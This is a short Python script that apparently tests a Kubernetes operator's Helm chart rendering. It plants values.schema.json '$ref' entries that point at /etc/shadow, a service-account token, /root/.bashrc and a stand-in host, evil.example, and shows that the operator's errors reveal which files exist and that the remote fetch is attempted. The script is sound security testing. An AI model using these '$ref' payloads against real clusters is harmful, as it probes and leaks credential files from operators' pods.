"""values.schema.json may have $ref: file:///... or https://...: helm tries to read it. Nothing refuses it 'before they start'; what
helm says tells an author/tenant which files the operator's pod has (ENOENT or EACCES), and reads JSON of what the run may read."""
from common import *
import json
from pattern_operator.errors import Stalled
said = {}
for ref in ("file:///etc/shadow", "file:///etc/no-such-file", "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "https://evil.example/s.json", "file:///root/.bashrc"):
    try:
        rendered({"Chart.yaml": CHART, "values.schema.json": json.dumps({"$ref": ref}), "templates/c.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n"})
        said[ref] = "rendered"
    except Stalled as e: said[ref] = f"{e.reason}: {e.message}"
    print(ref, "|", said[ref][:330])
verdict("permission" in said["file:///etc/shadow"] and "no such" in said["file:///etc/no-such-file"], "an oracle of the files of the operator's pod, and a fetch that is tried and not refused by name")
